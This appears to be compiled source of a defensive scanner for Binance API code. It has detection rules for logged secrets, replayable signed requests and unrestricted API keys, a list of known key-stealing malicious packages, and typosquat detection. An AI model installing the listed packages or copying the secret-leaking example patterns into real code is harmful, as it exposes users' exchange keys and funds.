	*look(subject) {
		if (isOfOther(subject)) return;
		let names;
		for (const part of partsOf$2(subject)) if (shells.has(part.language) && (part.language !== "json" || shellName.test(subject.document.path))) yield* inShell(part, subject);
		else if (isLanguage(part.language) || part.language === "markup") yield* inCode(part, subject, names ??= namesOf(subject));
	},
	examples: {
		leaks: [
			{
				path: "bot.js",
				text: "const { Spot } = require('@binance/connector');\n«console.log»('starting with', apiKey, apiSecret);"
			},
			{
				path: "bot.ts",
				text: "import { MainClient } from 'binance';\n«this.logger.debug»(`secret=${config.binance.secret}`);"
			},
			{
				path: "bot.js",
				text: "const s = process.env.BINANCE_SECRET;\n«console.log»(s);"
			},
			{
				path: "bot.py",
				text: "from binance.client import Client\n«print»(f\"{api_key[:4]} / {api_secret}\")\n«logging.info»(\"%s\", os.environ[\"BINANCE_API_SECRET\"])"
			},
			{
				path: "bot.py",
				text: "from binance.client import Client\ncredentials = {\"api_key\": k, \"api_secret\": api_secret}\n«print»(credentials)"
			},
			{
				path: "main.go",
				text: "package main\nimport \"github.com/adshao/go-binance/v2\"\nfunc f() { «log.Printf»(\"x %v\", cfg.Binance.SecretKey) }"
			},
			{
				path: "main.rs",
				text: "use binance::api::*;\nfn f() { «println!»(\"secret {secret_key}\"); }"
			},
			{
				path: "bot.php",
				text: "<?php\nuse Binance\\Spot;\n«echo» \"secret $secretKey\\n\";"
			},
			{
				path: "bot.rb",
				text: "require 'binance'\n«puts» \"secret #{api_secret}\""
			},
			{
				path: "Bot.cs",
				text: "using Binance.Net;\n«_logger.LogInformation»(\"Secret {Secret}\", apiSecret);"
			},
			{
				path: "bot.cpp",
				text: "#include \"binance.h\"\n«std::cout» << \"secret \" << secret_key << std::endl;"
			},
			{
				path: "login.sh",
				text: "«echo» \"got $BINANCE_API_SECRET\""
			},
			{
				path: ".github/workflows/run.yml",
				text: "jobs:\n  bot:\n    steps:\n      - run: «echo» ${{ secrets.BINANCE_API_SECRET }}"
			}
		],
		clean: [
			{
				path: "bot.js",
				text: "import Binance from 'binance-api-node';\nconsole.log('secret', apiSecret ? 'set' : 'missing', apiSecret.length, !!apiSecret);"
			},
			{
				path: "bot.py",
				text: "from binance.client import Client\nprint(f\"{api_secret[:4]}****\", len(api_secret), mask(api_secret), secret_name)"
			},
			{
				path: "bot.py",
				text: "from binance.client import Client\nprint(\"BINANCE_API_SECRET is not set\")"
			},
			{
				path: "bot.ts",
				text: "import { MainClient } from 'binance';\nconsole.log(config.stripe.secretKey, clientSecret, process.env.JWT_SECRET);"
			},
			{
				path: "sign.sh",
				text: "echo -n \"$q\" | openssl dgst -sha256 -hmac \"$BINANCE_API_SECRET\"\necho \"BINANCE_API_SECRET=$BINANCE_API_SECRET\" >> .env\necho \"::add-mask::$BINANCE_API_SECRET\""
			},
			{
				path: "main.go",
				text: "package main\nimport \"github.com/adshao/go-binance/v2\"\nfunc f() { logger.Info(\"x\", zap.Bool(\"secret\", secretKey != \"\"), zap.String(\"secret\", mask(secretKey))) }"
			},
			{
				path: "test/log.test.ts",
				text: "import { MainClient } from 'binance';\nconst apiSecret = 'not-to-be-seen';\nlogger.info({ apiSecret });\nexpect(written()).not.toContain(apiSecret);"
			}
		],
		missed: [{
			path: "bot.js",
			text: "import Binance from 'binance-api-node';\nshow(apiSecret);",
			because: "whether a function of one’s own prints is not followed"
		}]
	}
};
// ../engine/dist/rules/signed-request.js
const signedRequest = {
	id: "signed-request",
	title: "Recorded signed request",
	severity: "medium",
	finds: "A request as it was sent, with API key, time and signature: in logs, HAR recordings, Postman collections, curl lines, WebSocket messages and FIX logons. It is placed at the signature; the API key is a finding of its own.",
	why: "Within its receive window, at most a minute, whoever has the request can send it again. Later it shows an API key that is in use, from which account data and by which tool; and where one request was recorded, others lie nearby.",
	advice: [
		"Delete the API key in Binance’s API Management if the recording left your hands.",
		"Look for what else the same tool recorded, and turn the recording of headers and query strings off.",
		"Replace key and signature by placeholders in what must stay."
	],
	references: ["https://developers.binance.com/docs/binance-spot-api-docs/rest-api/request-security#signed-trade-and-user_data-endpoint-security"],
	examples: {
		leaks: [
			{
				path: "account.sh",
				text: "curl -H \"X-MBX-APIKEY: <key64:api-key.a>\" \"https://api.binance.com/api/v3/account?timestamp=1700000000000&signature=<hex64:signed-request.a>\""
			},
			{
				path: "requests.log",
				text: "POST https://fapi.binance.com/fapi/v1/order?symbol=BTCUSDT&timestamp=1700000000000&signature=<hex64:signed-request.a> headers={\"X-MBX-APIKEY\": \"<key64:api-key.a>\"}"
			},
			{
				path: "logon.json",
				text: "{\"url\": \"wss://ws-api.binance.com/ws-api/v3\", \"method\": \"session.logon\", \"params\": {\"apiKey\": \"<key64:api-key.a>\", \"timestamp\": 1700000000000, \"signature\": \"<hex64:signed-request.a>\"}}"
			},
			{
				path: "trace.har",
				text: "{\"log\": {\"entries\": [{\"request\": {\"method\": \"GET\", \"url\": \"https://api.binance.com/api/v3/openOrders\",\n\"headers\": [{\"name\": \"X-MBX-APIKEY\", \"value\": \"<key64:api-key.a>\"}],\n\"queryString\": [{\"name\": \"timestamp\", \"value\": \"1700000000000\"}, {\"name\": \"signature\", \"value\": \"<hex64:signed-request.a>\"}]}}]}}"
			}
		],
		clean: [
			{
				path: "binance.md",
				text: "GET /api/v3/account?timestamp=1499827319559&signature=<hex64:a>"
			},
			{
				path: "binance.py",
				text: "params[\"signature\"] = sign(query)"
			},
			{
				path: "release.txt",
				text: "binance 1.0\nsignature: <hex64:a>"
			}
		],
		missed: []
	}
};
// ../engine/dist/rules/unsafe-key-creation.js
/** Code that makes keys which work from anywhere. Not keys that people make, and not reading or deleting them. */
const unsafeKeyCreation = {
	id: "unsafe-key-creation",
	title: "Keys made without an IP list",
	severity: "medium",
	finds: "Calls that make an API key for a sub-account, a broker’s customer or margin trading, or change its restriction, so that it works from any address: `status: 1`, no `ip`, trading rights without a list, addresses taken off the list.",
	why: "A key that is bound to addresses is worth little to a thief. A program that makes keys without that makes many such keys, and nobody looks at each of them. For Binance `status` 1 is “unrestricted” and 2 is “trusted addresses only”; some guides have it the other way round.",
	advice: [
		"Make sub-account keys with `status: 2` and `ipAddress`, special margin keys with `ip`.",
		"Give each key only the rights that it needs; `permissionMode: READ` is enough for watching.",
		"Restrict the keys that exist already, or delete them."
	],
	references: [
		"https://developers.binance.com/docs/sub_account/api-management",
		"https://developers.binance.com/docs/margin_trading/trade/Create-Special-Key-of-Low-Latency-Trading",
		"https://developers.binance.com/docs/binance_link/link-and-trade/fast-api"
	],
	*look(subject) {
		if (subject.isProse) return;
		if (isSdkSource(subject.document.text)) return;
		const seen = /* @__PURE__ */ new Set();
		for (const risk of found(subject)) {
			if (seen.has(risk.span.start)) continue;
			seen.add(risk.span.start);
			yield risk;
		}
	},
	examples: {
		leaks: [
			{
				path: "keys.js",
				text: "const params = sign({ email, subAccountApiKey, status: «1» });\nawait axios.post('https://api.binance.com/sapi/v2/sub-account/subAccountApi/ipRestriction', null, { params, headers });"
			},
			{
				path: "keys.ts",
				text: "const url = new URL('https://api.binance.com/sapi/v2/sub-account/subAccountApi');\nurl.searchParams.set('status', «'1'»);\nawait fetch(url, { method: 'POST', headers });"
			},
			{
				path: "Keys.java",
				text: "// api.binance.com\nclass Keys { void open() { String body = \"subAccountId=\" + id + \"&status=«1»\"; post(\"https://api.binance.com/sapi/v2/sub-account/subAccountApi\", body); } }"
			},
			{
				path: "Keys.java",
				text: "import com.binance.connector.client.SpotClient;\nclass Keys { void open(SpotClient client) {\n    Map<String, Object> parameters = new LinkedHashMap<>();\n    parameters.put(\"status\", «\"1\"»);\n    client.createSubAccount().updateIpRestriction(parameters);\n} }"
			},
			{
				path: "Keys.cs",
				text: "using Binance.Net.Clients;\nvar client = new BinanceRestClient();\nawait client.GeneralApi.SubAccount.UpdateIpRestrictionForSubAccountApiKeyAsync(key, «false», null);\nawait client.GeneralApi.Brokerage.CreateApiKeyForSubAccountAsync(id, isSpotTradingEnabled: «true»);"
			},
			{
				path: "keys.go",
				text: "package main // api.binance.com\nfunc f() { c.do(\"POST\", \"/sapi/v2/sub-account/subAccountApi\", url.Values{\"subAccountId\": {id}, \"status\": {«\"1\"»}}) }"
			},
			{
				path: "keys.js",
				text: "signed('POST', '/sapi/v2/sub-account/subAccountApi', { subAccountId: id, status: «1», canTrade: true });"
			},
			{
				path: "keys.js",
				text: "// api.binance.com\nsigned('POST', «'/sapi/v1/margin/apiKey'», { apiName: name });"
			},
			{
				path: "keys.py",
				text: "from binance import Client\nclient = Client(key, secret)\n«client.create_special_key»(apiName=\"bot\")"
			},
			{
				path: "keys.ts",
				text: "import { MarginTrading } from '@binance/margin-trading';\nconst client = new MarginTrading({ configurationRestAPI });\nawait «client.restAPI.createSpecialKey»({ apiName });"
			},
			{
				path: "keys.ts",
				text: "import { MainClient } from 'binance';\nconst api = new MainClient({ api_key, api_secret });\nawait api.createApiKeyBrokerSubAccount({ subAccountId, canTrade: «true» });"
			},
			{
				path: "keys.py",
				text: "params = {\"email\": e, \"subAccountApiKey\": k}\nparams[\"status\"] = «\"1\"»\nrequests.post(BINANCE + \"/sapi/v2/sub-account/subAccountApi/ipRestriction\", params=params)"
			},
			{
				path: "Keys.java",
				text: "import com.binance.connector.client.impl.SpotClientImpl;\nclass Keys { void make() {\n    Map<String, Object> parameters = new LinkedHashMap<>();\n    parameters.put(\"status\", «1»);\n    client.createSubAccount().createSubAccountApiKey(parameters);\n} }"
			},
			{
				path: "keys.sh",
				text: "curl -X POST «\"https://api.binance.com/sapi/v1/margin/apiKey?apiName=x&timestamp=$T&signature=$S\"»"
			},
			{
				path: "keys.sh",
				text: "q=\"apiName=x&timestamp=$T\"\ncurl -X POST «\"https://api.binance.com/sapi/v1/margin/apiKey?$q&signature=$(./sign \"$q\")\"»"
			},
			{
				path: "Keys.kt",
				text: "// api.binance.com\nfun open(email: String) =\n    post(\"/sapi/v2/sub-account/subAccountApi\", mapOf(\"subAccountId\" to email, \"status\" to «1»))"
			},
			{
				path: "link.js",
				text: "// Binance Link\npost('/oauth-api/v1/key', { apiName: 'x', enableTrade: true, enableFutureTrade: true, status: «1» });"
			},
			{
				path: "keys.sh",
				text: "curl -X POST https://api.binance.com/sapi/v2/sub-account/subAccountApi/ipRestriction -H \"X-MBX-APIKEY: $K\" \\\n  -d \"email=$E&subAccountApiKey=$S&status=«1»&timestamp=$T\""
			},
			{
				path: "keys.go",
				text: "import binance \"github.com/binance/binance-connector-go\"\n\nfunc open(c *binance.Client) {\n	s := c.NewUpdateIPRestrictionForSubAccountAPIKeyService()\n	s = s.Email(e).Status(«\"1\"»)\n}"
			},
			{
				path: "Keys.java",
				text: "// api.binance.com\nclass Keys { void open() { rest.post(\"https://api.binance.com/sapi/v2/sub-account/subAccountApi/ipRestriction?email=\" + e + \"&status=«1»\"); } }"
			},
			{
				path: "Keys.cs",
				text: "// api.binance.com\nclass Keys { Task Open() => Signed(\"/sapi/v2/sub-account/subAccountApi\", new Dictionary<string, string> { [\"subAccountId\"] = id, [\"status\"] = «\"1\"» }); }"
			},
			{
				path: "keys.rs",
				text: "// api.binance.com\nc.post(\"/sapi/v2/sub-account/subAccountApi/ipRestriction\", &[(\"email\", e), (\"status\", «\"1\"»)]);"
			},
			{
				path: "keys.js",
				text: "const q = new URLSearchParams({ email, status: «'1'» });\nfetch(`https://api.binance.com/sapi/v2/sub-account/subAccountApi/ipRestriction?${q}`, { method: 'POST' });"
			},
			{
				path: "Keys.java",
				text: "import com.binance.connector.client.sub_account.rest.api.SubAccountRestApi;\nclass Keys { void open(SubAccountRestApi api) {\n  AddIpRestrictionForSubAccountApiKeyRequest r = new AddIpRestrictionForSubAccountApiKeyRequest();\n  r.status(«\"1\"»);\n  api.addIpRestrictionForSubAccountApiKey(r);\n} }"
			},
			{
				path: "keys.ex",
				text: "defmodule Keys do\n  @base \"https://api.binance.com\"\n  @path \"/sapi/v2/sub-account/subAccountApi/ipRestriction\"\n  def open(e), do: Signed.post(@base <> @path, %{email: e, status: «1»})\n  def bind(e, ips), do: Signed.post(@base <> @path, %{email: e, status: 2, ipAddress: ips})\nend"
			},
			{
				path: "keys.R",
				text: "base <- \"https://api.binance.com\"\nPOST(paste0(base, \"/sapi/v2/sub-account/subAccountApi/ipRestriction\"), h,\n     query = sign(list(email = e, status = «1»)))"
			},
			{
				path: "keys.py",
				text: "BASE = \"https://api.binance.com\"\nSPECIAL = \"/sapi/v1/margin/apiKey\"\nrequests.post(«f\"{BASE}{SPECIAL}\"», params=signed(apiName=\"bot\"))\nrequests.post(BASE + SPECIAL, params=signed(apiName=\"bot\", ip=\"5.9.1.2\"))"
			},
			{
				path: "keys.ps1",
				text: "# api.binance.com\n$Path = \"/sapi/v2/sub-account/subAccountApi/ipRestriction\"\nInvoke-RestMethod -Method Post -Uri \"$Base$Path\" -Body @{ email = $e; status = «1» }"
			},
			{
				path: "Keys.java",
				text: "import com.binance.connector.client.sub_account.rest.api.SubAccountRestApi;\nclass Keys { void open(SubAccountRestApi api) {\n  api.addIpRestrictionForSubAccountApiKey(new AddIpRestrictionForSubAccountApiKeyRequest()\n      .email(e)\n      .status(«\"1\"»));\n} }"
			},
			{
				path: "keys.rs",
				text: "use binance_sdk::margin_trading::rest_api::{CreateSpecialKeyParams, RestApi};\nasync fn open(client: &RestApi) -> R {\n    let params = CreateSpecialKeyParams::builder(\"a\".into()).symbol(\"BTCUSDT\".into()).build()?;\n    «client.create_special_key»(params).await\n}\nasync fn bound(client: &RestApi) -> R {\n    let params = CreateSpecialKeyParams::builder(\"a\".into())\n        .ip(\"5.9.1.2\".into())\n        .build()?;\n    client.create_special_key(params).await\n}"
			},
			{
				path: "link.py",
				text: "# Binance Link\npost(\"/oauth-api/v1/key\", token, {\"apiName\": \"reader\", \"enableTrade\": False, \"status\": «1»})\npost(\"/oauth-api/v1/key\", token, {\"apiName\": \"bound\", \"status\": 2, \"ipAddress\": ips})"
			}
		],
		clean: [
			{
				path: "keys.go",
				text: "import \"github.com/adshao/go-binance/v2\"\n\nfunc f(c *binance.Client) { c.NewSubAccountApiIpRestrictionService().Email(e).SubAccountApiKey(k).Do(ctx) }"
			},
			{
				path: "keys.rs",
				text: "// api.binance.com\nlet params = CreateSpecialKeyParams::builder(name).ip(\"52.1.1.1\".to_string()).build()?;\nclient.create_special_key(params).await?;"
			},
			{
				path: "keys.js",
				text: "// api.binance.com\nconst KEYS = '/sapi/v1/margin/apiKey';\nhttp.post(BASE + KEYS, sign(params));\nhttp.post(BASE + KEYS + '?' + query);\nhttp.delete(BASE + KEYS, sign({ apiName }));\nconst send = (path, body) => http.post(path, { ...body, status: 1 });"
			},
			{
				path: "azure.js",
				text: "// for Binance\nawait client.webApps.updateIpRestriction(group, name, { status: 1 });"
			},
			{
				path: "Keys.java",
				text: "// api.binance.com\nclass Keys { void see() { client.createSubAccount().ipRestriction(Map.of(\"email\", e, \"subAccountApiKey\", k)); } }"
			},
			{
				path: "keys.sh",
				text: "curl -X POST https://api.binance.com/sapi/v1/margin/apiKey -H \"X-MBX-APIKEY: $K\" -d \"apiName=bot&ip=5.9.1.2&timestamp=$T\""
			},
			{
				path: "keys.js",
				text: "// api.binance.com\nsigned('POST', '/sapi/v2/sub-account/subAccountApi', { subAccountId: id, status: 2, ipAddress: ips });\nsigned('GET', '/sapi/v1/fiat/orders', { status: 1 });\nsigned('DELETE', '/sapi/v1/margin/apiKey', { apiName: name });"
			},
			{
				path: "keys.py",
				text: "from binance import Client\nclient = Client(key, secret)\nclient.create_special_key(apiName=\"bot\", ip=\"1.2.3.4\")\nclient.get_special_key(apiKey=k)"
			},
			{
				path: "sdk.d.ts",
				text: "export interface Binance { createSpecialKey(params: { apiName: string }): Promise<void>; }"
			},
			{
				path: "api.md",
				text: "POST /sapi/v1/margin/apiKey makes a key.\n```js\nclient.createSpecialKey({ apiName });\n```"
			}
		],
		missed: [{
			path: "keys.py",
			text: "import binance\nclient.create_special_key(**params)",
			because: "what params holds is made elsewhere"
		}]
	}
};
function* found(subject) {
	yield* byLink(subject);
	for (const request of keyRequestsIn(subject)) yield* faultsOf(request, subject);
}
/** A Link partner’s keys, told by their rights: only Fast API has these names. */
function* byLink({ settings }) {
	if (!settings.some(({ name }) => onlyLinkRights.test(name))) return;
	const groups = /* @__PURE__ */ new Map();
	for (const setting of settings) require_gates.addToGroup(groups, `${String(setting.container)} ${setting.path.slice(0, -1).join(".")}`, setting);
	for (const group of groups.values()) {
		if (!group.some(({ name }) => onlyLinkRights.test(name))) continue;
		const right = group.find(({ name, value }) => linkRights.test(name) && switched(value) === "on");
		if (!right || !group.some(({ name }) => name === "apiname" || name === "publickey" || name === "status")) continue;
		const clues = [clue("binance-setting", "the rights have the names of Binance Link’s Fast API")];
		const message = "A Link key with trading rights that works from any address: status 1, or none, is unrestricted";
		const status = group.find(({ name }) => name === "status");
		if (status && (openStatus(group) || isEmpty(status))) yield {
			span: status.span,
			name: "status link",
			message,
			clues
		};
		else if (!status && !group.some(({ name }) => /^ip/.test(name))) {
			const { call } = right;
			const end = call ? call.span.start + call.callee.join(".").length : 0;
			yield {
				span: call ? {
					start: call.span.start,
					end
				} : right.span,
				name: "missing link",
				message,
				clues
			};
		}
	}
}
// ../engine/dist/rules/unsafe-packages.js
/**
* Packages that steal keys, and the names that such packages imitate. Data only: what `unsafe-package` knows. Every entry
* says what the package does, who says so and when.
*/
const unsafePackages = [
	{
		ecosystem: "npm",
		name: "@wagni_bot/*",
		does: "sends .env files, SSH keys and wallets to a thief when it is installed",
		source: "https://osv.dev/vulnerability/MAL-2026-10022",
		date: "2026-07-09"
	},
	{
		ecosystem: "npm",
		name: "axios",
		versions: ["1.14.1", "0.30.4"],
		isHijacked: true,
		does: "installs a remote-access trojan: the maintainer’s account had been taken over",
		source: "https://socket.dev/npm/package/axios",
		date: "2026-03-31"
	},
	{
		ecosystem: "npm",
		name: "plain-crypto-js",
		does: "is the dropper that the hijacked versions of axios installed",
		source: "https://github.com/brix/crypto-js/issues/533",
		date: "2026-03-31"
	},
	{
		ecosystem: "npm",
		name: "js-web3.prc",
		does: "sends private keys from the environment to a thief",
		source: "https://github.com/ossf/malicious-packages/pull/1286",
		date: "2026-06-01"
	},
	{
		ecosystem: "npm",
		name: "node-pino",
		does: "steals credentials under a name like that of pino",
		source: "https://github.com/ossf/malicious-packages/pull/1340",
		date: "2026-07-02"
	},
	{
		ecosystem: "npm",
		name: "swap-sdk-87",
		does: "steals wallets and .env files",
		source: "https://osv.dev/vulnerability/MAL-2026-5359",
		date: "2026-06-09"
	},
	{
		ecosystem: "npm",
		name: "uniswap-sdk-v4",
		does: "posts private keys to a thief",
		source: "https://osv.dev/vulnerability/MAL-2026-12490",
		date: "2026-08-05"
	},
	{
		ecosystem: "npm",
		name: "binance-connector-node",
		does: "is malware that imitates @binance/connector, by the word of its maintainer",
		source: "https://github.com/binance/binance-connector-js/issues/89",
		date: "2022-06-01"
	},
	{
		ecosystem: "pypi",
		name: "ccxt-mexc-futures",
		does: "hijacks the orders of ccxt and steals its keys",
		source: "https://osv.dev/vulnerability/MAL-2025-3439",
		date: "2025-04-15"
	},
	{
		ecosystem: "pypi",
		name: "cryptoaitools",
		does: "steals wallets and credentials under the guise of a trading toolkit",
		source: "https://osv.dev/vulnerability/MAL-2024-9964",
		date: "2024-10-30"
	},
	{
		ecosystem: "pypi",
		name: "binance-sdk-ebate",
		does: "was put under a misspelling of binance-sdk-rebate to run what its author liked",
		source: "https://osv.dev/vulnerability/MAL-2025-47747",
		date: "2025-08-18"
	},
	{
		ecosystem: "pypi",
		name: "bitcoinlibdbfix",
		does: "steals the wallets of bitcoinlib",
		source: "https://www.reversinglabs.com/blog",
		date: "2025-04-01"
	},
	{
		ecosystem: "pypi",
		name: "bitcoinlib-dev",
		does: "steals the wallets of bitcoinlib",
		source: "https://www.reversinglabs.com/blog",
		date: "2025-04-01"
	},
	{
		ecosystem: "pypi",
		name: "set-utils",
		does: "steals Ethereum keys",
		source: "https://socket.dev/pypi/package/set-utils",
		date: "2025-03-01"
	},
	{
		ecosystem: "pypi",
		name: "solanapy",
		does: "steals Solana key pairs",
		source: "https://github.com/michaelhly/solana-py/issues/285",
		date: "2022-08-01"
	},
	{
		ecosystem: "pypi",
		name: "bip-uttils",
		does: "runs malware under a misspelling of bip-utils",
		source: "https://osv.dev/vulnerability/MAL-2024-4816",
		date: "2024-06-25"
	},
	{
		ecosystem: "pypi",
		name: "electrum-python",
		does: "steals the seeds of wallets",
		source: "https://github.com/pypi/support/issues/1613",
		date: "2022-01-01"
	},
	{
		ecosystem: "nuget",
		name: "binance.csharp",
		versions: ["1.1.35", ">=1.56.7"],
		does: "is a malicious clone of a Binance library",
		source: "https://osv.dev/vulnerability/MAL-2025-191604",
		date: "2025-12-01"
	},
	{
		ecosystem: "nuget",
		name: "binance.library",
		does: "is malware under the name of a Binance library",
		source: "https://osv.dev/vulnerability/MAL-2024-4308",
		date: "2024-06-25"
	},
	{
		ecosystem: "nuget",
		name: "binance.libary",
		does: "is malware under the name of a Binance library",
		source: "https://osv.dev/vulnerability/MAL-2024-4307",
		date: "2024-06-25"
	},
	{
		ecosystem: "nuget",
		name: "bybitapi.net",
		does: "is a malicious clone of an exchange’s library",
		source: "https://osv.dev/vulnerability/MAL-2025-191606",
		date: "2025-12-01"
	},
	{
		ecosystem: "nuget",
		name: "coinbase.net.api",
		does: "is a malicious clone of an exchange’s library",
		source: "https://osv.dev/vulnerability/MAL-2025-191607",
		date: "2025-12-01"
	},
	{
		ecosystem: "nuget",
		name: "bybit.net.core",
		versions: ["3.0.8"],
		does: "is a malicious clone of JKorf’s library for Bybit",
		source: "https://osv.dev/vulnerability/MAL-2024-4385",
		date: "2024-06-25"
	},
	{
		ecosystem: "nuget",
		name: "kucoin.net.core",
		versions: ["5.0.3"],
		does: "is a malicious clone of JKorf’s library for KuCoin",
		source: "https://osv.dev/vulnerability/MAL-2024-4524",
		date: "2024-06-25"
	},
	{
		ecosystem: "nuget",
		name: "huobi.net.core",
		versions: ["5.0.1"],
		does: "is a malicious clone of JKorf’s library for Huobi",
		source: "https://osv.dev/vulnerability/MAL-2024-4509",
		date: "2024-06-25"
	}
];
/** The names that imitations aim at: Binance’s own SDKs and the libraries that most bots use. */
const imitated = {
	npm: [
		...words$1("binance ccxt node-binance-api binance-api-node @binance/connector @binance/connector-typescript"),
		...words$1("@binance/futures-connector @binance/common @binance/spot @binance/wallet @binance/margin-trading"),
		...words$1("@binance/sub-account @binance/derivatives-trading-usds-futures @binance/simple-earn @binance/staking"),
		...words$1("@binance/derivatives-trading-coin-futures @binance/derivatives-trading-options @binance/convert"),
		...words$1("@binance/derivatives-trading-portfolio-margin @binance/algo @binance/pay @binance/gift-card")
	],
	pypi: [
		...words$1("binance python-binance binance-connector binance-futures-connector binance-common ccxt binance-sdk-algo"),
		...words$1("binance-sdk-c2c binance-sdk-convert binance-sdk-copy-trading binance-sdk-crypto-loan binance-sdk-fiat"),
		...words$1("binance-sdk-derivatives-trading-coin-futures binance-sdk-derivatives-trading-options binance-sdk-pay"),
		...words$1("binance-sdk-derivatives-trading-portfolio-margin binance-sdk-derivatives-trading-portfolio-margin-pro"),
		...words$1("binance-sdk-derivatives-trading-usds-futures binance-sdk-dual-investment binance-sdk-gift-card"),
		...words$1("binance-sdk-margin-trading binance-sdk-mining binance-sdk-nft binance-sdk-rebate binance-sdk-spot"),
		...words$1("binance-sdk-simple-earn binance-sdk-staking binance-sdk-sub-account binance-sdk-vip-loan"),
		...words$1("binance-sdk-wallet binance-sdk-alpha unicorn-binance-websocket-api unicorn-binance-rest-api"),
		...words$1("unicorn-binance-local-depth-cache unicorn-binance-trailing-stop-loss unicorn-binance-suite")
	]
};
/**
* Names as near to those as a misspelling, and not one: all that PyPI (886,000 names) and the 227,000 most downloaded
* packages of npm had on 2026-11-25, and forks and wrappers whose names differ by a word.
*/
const nearButKnown = {
	npm: new Set(words$1("binance-futures-connector binance-connector-typescript binance-node-api binance-api binance-client binance-us binances binance-js binancejs binance-ts finance yfinance cctx ccxt-pro ccxtpro")),
	pypi: new Set(words$1("python-binance2 python3-binance pythonic-binance python-finance binance-python binance-sdk-cms binance-sdk binance-sdk-stocks binance-sdk-proxy binance binancepy binance-py binance-us pbinance pybinance trbinance bfinance finance yfinance pinance binance-connectors binance-futures binance-api binance-client binance-common cctx ccxtpro binance-historical-data binance-connector-at"))
};
/** Scopes of npm as near to `binance`, and none of its imitations. */
const knownScopes = new Set(words$1("binance binance-chain bnb-chain finance yfinance balance binance-us"));
/** What an npm package under a scope of its own takes from the official one, `@binance`. */
const scopedImitations = new Set(words$1("binance-sdk"));
function words$1(text) {
	return text.split(" ");
}
// ../engine/dist/risks/packages/near-names.js
/** Names of packages that are nearly those of SDKs: a misspelling, or the bait for one. */
/** In a name of so many letters two wrong ones are a misspelling, in one of half as many one is. */
const long = 12;
const short = 7;
/** Without its scope a name of fewer letters, `binance-wallet`, may be anybody’s for what it says. */
const longFlat = 16;
/** What is left of `binance`, or `ccxt`, after one or two slips: a quick look before the slow one. */
const trace = /bi|nan|ce|ina|ccx|cxt|cct|cxc/;
const longest = 60;
/** Undefined for names that are known, and for those that are like none. `name` as normalised. */
function nearName(name, ecosystem, ownScope) {
	const targets = imitated[ecosystem];
	if (!targets || name.length > longest || !trace.test(name)) return void 0;
	if (nearButKnown[ecosystem]?.has(name) || targets.includes(name)) return void 0;
	if (unsafePackages.some((one) => one.ecosystem === ecosystem && one.name === name)) return void 0;
	if (name.startsWith("@")) return scopedNear(name, ownScope);
	for (const target of targets) {
		const confidence = nearness(name, target);
		if (confidence) return {
			of: target,
			confidence
		};
	}
}
function nearness(name, target) {
	if (target.startsWith("@")) {
		const flat = target.slice(1).replace("/", "-");
		if (flat.length < longFlat) return name === flat ? "possible" : void 0;
		return distance(name, flat, 1) <= 1 ? "likely" : void 0;
	}
	if (target.length < short) return isSlip(name, target) ? "likely" : void 0;
	if (squeezed(name) === squeezed(target)) return "likely";
	const family = "binance-sdk-";
	if (name.startsWith(family) && target.startsWith(family)) {
		const [tail, other] = [name.slice(12), target.slice(12)];
		return other.length >= 5 && distance(tail, other, 1) <= 1 ? "likely" : void 0;
	}
	if (target.length >= long) return distance(name, target, 2) <= 2 ? "likely" : void 0;
	return name[0] === target[0] && distance(name, target, 1) <= 1 ? "likely" : void 0;
}
/** Two neighbours swapped, a letter twice: of a short name, all else may be a name of its own. */
function isSlip(name, target) {
	if (name.length === target.length) return distance(name, target, 1) === 1 && sorted(name) === sorted(target);
	return name.length === target.length + 1 && distance(name, target, 1) === 1 && once(name) === once(target);
}
function sorted(name) {
	return [...name].sort().join("");
}
function once(name) {
	return name.replace(/(.)\1+/g, "$1");
}
function scopedNear(name, ownScope) {
	const [scope = "", base = ""] = name.slice(1).split("/");
	if (scope === ownScope || scope === "binance") return void 0;
	const official = `@binance/${base}`;
	if (!knownScopes.has(scope) && distance(scope, "binance", 2) <= 2 && scope.length >= 5) {
		const isOne = (imitated.npm ?? []).includes(official);
		return {
			of: isOne ? official : "@binance/…",
			confidence: isOne || scope[0] === "b" ? "likely" : "possible"
		};
	}
	if (scopedImitations.has(base)) return {
		of: "@binance/…",
		confidence: "likely"
	};
	if (/^binance[-_.]?\w/.test(scope) && !knownScopes.has(scope) && (imitated.npm ?? []).includes(official)) return {
		of: official,
		confidence: "likely"
	};
}
function squeezed(name) {
	return name.replace(/[-_.]/g, "");
}
/**
* How many letters must be put in, taken out, replaced or swapped with their neighbours to make one of the other; any
* number above `most` where it is more.
*/
function distance(a, b, most) {
	if (Math.abs(a.length - b.length) > most) return most + 1;
	let before = [];
	let last = Array.from({ length: b.length + 1 }, (_, j) => j);
	for (let i = 1; i <= a.length; i += 1) {
		const row = [i];
		let least = i;
		for (let j = 1; j <= b.length; j += 1) {
			const same = a[i - 1] === b[j - 1] ? 0 : 1;
			let cost = Math.min(last[j] + 1, row[j - 1] + 1, last[j - 1] + same);
			if (i > 1 && j > 1 && a[i - 1] === b[j - 2] && a[i - 2] === b[j - 1]) cost = Math.min(cost, before[j - 2] + 1);
			row.push(cost);
			least = Math.min(least, cost);
		}
		if (least > most) return most + 1;
		before = last;
		last = row;
	}
	return last[b.length];
}
// ../engine/dist/risks/packages/package-versions.js
const exact = /^\[?(={1,3}|v)?\s*v?(\d[\w.-]*)(?:\+[\w.-]*)?\]?$/i;
const comparison = /(>=|<=|<|>|={1,3})\s*v?(\d[\w.-]*)/g;
/** The only versions that this can mean, each as it is written; undefined where others may be installed as well. */
function onlyVersions(range, ecosystem) {
	if (range.length > 200) return void 0;
	const versions = [];
	for (const part of range.split("||")) {
		const one = onlyVersion(part.trim(), ecosystem);
		if (one === void 0) return void 0;
		versions.push(one);
	}
	return versions;
}
function onlyVersion(text, ecosystem) {
	const [, mark, version = ""] = exact.exec(text) ?? [];
	if (version !== "" && !/[x*]/i.test(version.replace(/-.*/, ""))) return (ecosystem === "npm" ? /^\d+\.\d+\.\d+/.test(version) : ecosystem !== "cargo" || mark === "=") ? version : void 0;
	const [, low, high] = /^v?(\d[\w.-]*)\s+-\s+v?(\d[\w.-]*)$/.exec(text) ?? [];
	if (low !== void 0) return sameVersion(low, high ?? "") ? low : void 0;
	return between(text);
}
/** `>=1.14.1 <=1.14.1`, `>=1.14.1,<1.14.2`. */
function between(text) {
	const found = [...text.matchAll(comparison)];
	const [first, second] = found;
	if (found.length !== 2 || !first || !second || text.replace(comparison, "").replace(/[\s,]/g, "") !== "") return;
	const [low, high] = first[1] === ">=" ? [first, second] : [second, first];
	if (low[1] !== ">=") return void 0;
	const [from = "", to = ""] = [low[2], high[2]];
	if (high[1] === "<=") return sameVersion(from, to) ? from : void 0;
